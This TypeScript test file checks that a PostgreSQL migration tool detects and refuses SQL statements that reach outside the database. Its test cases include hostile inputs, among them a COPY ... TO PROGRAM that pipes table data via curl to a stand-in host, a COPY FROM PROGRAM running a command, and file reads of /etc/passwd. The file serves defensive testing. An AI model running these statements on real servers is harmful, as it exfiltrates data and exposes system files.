import { randomBytes } from 'node:crypto';
import { existsSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ErrorCode, type Migration, Migrator, isInferError } from '@infer/core';
import { classifyStatement } from '@infer/core/sql';
import { afterAll, describe, expect, it } from 'vitest';
import { POSTGRES_EXTERNAL_STATEMENTS } from '../src/external-statements.js';
import { PostgresMigrationDriver, parsePostgresConfig, postgresMigrations } from '../src/index.js';
import { createDatabase, dropDatabases, dumpDatabase, postgresEnabled, withClient } from '@infer/test-servers/postgres';
import { configFor } from './database.js';

const external = (sql: string) => classifyStatement(sql, 'postgres', POSTGRES_EXTERNAL_STATEMENTS).external;

describe('PostgreSQL statements that reach outside the database', () => {
  it.each([
    ["COPY conversations TO '/tmp/out.csv'", 'COPY … TO a file or program writes'],
    ["COPY (SELECT id FROM conversations) TO '/tmp/out.csv' WITH (FORMAT csv)", 'COPY … TO a file or program writes'],
    ["COPY conversations TO PROGRAM 'curl -d @- http://example.invalid'", 'COPY … TO a file or program writes'],
    ["COPY conversations FROM '/etc/passwd'", 'COPY … FROM a file or program reads'],
    ["COPY conversations FROM PROGRAM 'id'", 'COPY … FROM a file or program reads'],
    ["SELECT pg_read_file('/etc/passwd')", 'pg_read_file() reads a file'],
    ["SELECT pg_read_binary_file('/etc/passwd')", 'pg_read_binary_file() reads a file'],
    ["SELECT * FROM pg_ls_dir('/')", 'pg_ls_dir() lists a directory'],
    ["SELECT lo_import('/etc/passwd')", 'lo_import() reads a file'],
    ["SELECT lo_export(16401, '/tmp/x')", 'lo_export() writes a large object to a file'],
    ["DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", 'pg_read_file() reads a file'],
    [
      "CREATE FUNCTION dump() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN COPY conversations TO '/tmp/x'; END $f$",
      'COPY … TO a file or program writes',
    ],
  ])('%s', (sql, reason) => {
    expect(external(sql)).toMatch(reason);
  });

  it.each([
    'COPY conversations TO STDOUT',
    'COPY conversations (id, title) FROM STDIN WITH (FORMAT csv)',
    'COPY (SELECT id FROM conversations WHERE id > 0) TO STDOUT',
    "CREATE TABLE copy_jobs (lo_import TEXT, note TEXT DEFAULT 'pg_read_file(x)')",
  ])('not: %s', (sql) => {
    expect(external(sql)).toBeUndefined();
  });
});

describe.runIf(postgresEnabled)('PostgreSQL: an external migration never runs in lint, nor undeclared in a run', () => {
  afterAll(dropDatabases);
  const written: string[] = [];
  afterAll(() => {
    for (const path of written) rmSync(path, { force: true });
  });

  /** A path on this machine (the test server's) that a COPY … TO would create. */
  function serverFile(): string {
    const path = join(tmpdir(), `infer-copy-${process.pid}-${randomBytes(4).toString('hex')}.csv`);
    written.push(path);
    return path;
  }

  const copying = (path: string, declared: boolean): Migration => ({
    version: '004',
    description: 'Copy out',
    up: `CREATE TABLE exported (id INTEGER);\nCOPY (SELECT 1) TO '${path}';`,
    down: 'DROP TABLE exported;',
    ...(declared ? { external: true } : {}),
  });

  async function withMigrator<T>(
    database: string,
    migrations: readonly Migration[],
    use: (migrator: Migrator) => Promise<T>,
  ): Promise<T> {
    const driver = PostgresMigrationDriver.open(parsePostgresConfig(configFor(database)));
    try {
      return await use(new Migrator({ driver, migrations }));
    } finally {
      await driver.close();
    }
  }

  it('the test role could write that file: the checks below are not vacuous', async () => {
    const database = await createDatabase();
    const path = serverFile();
    await withClient(database, (client) => client.query(`COPY (SELECT 1) TO '${path}'`));
    expect(existsSync(path)).toBe(true);
  });

  it('migrate lint refuses an undeclared COPY … TO a file, skips a declared one: no file on the server', async () => {
    const database = await createDatabase();
    for (const declared of [false, true]) {
      const path = serverFile();
      const problems = await withMigrator(database, [...postgresMigrations, copying(path, declared)], (m) => m.lint());
      expect(problems.filter((p) => p.rule === 'external').map((p) => [p.version, p.severity])).toEqual([
        ['004', declared ? 'warning' : 'error'],
      ]);
      expect(problems.filter((p) => p.rule === 'syntax')).toEqual([]);
      expect(existsSync(path)).toBe(false);
    }
  });

  it('a run refuses an undeclared one before anything is written', async () => {
    const database = await createDatabase();
    await withMigrator(database, postgresMigrations, (m) => m.up());
    const before = await dumpDatabase(database);
    const path = serverFile();
    const error = await withMigrator(database, [...postgresMigrations, copying(path, false)], (m) => m.up()).then(
      () => expect.fail('expected a refusal'),
      (caught: unknown) => caught,
    );
    expect(isInferError(error, ErrorCode.MigrationDefinition)).toBe(true);
    expect((error as Error).message).toContain(
      'migration 004 (Copy out) COPY … TO a file or program writes a file or runs a program on the database ' +
        'server (line 2): it reaches outside the database',
    );
    expect(existsSync(path)).toBe(false);
    expect(await dumpDatabase(database)).toEqual(before);
  });
});
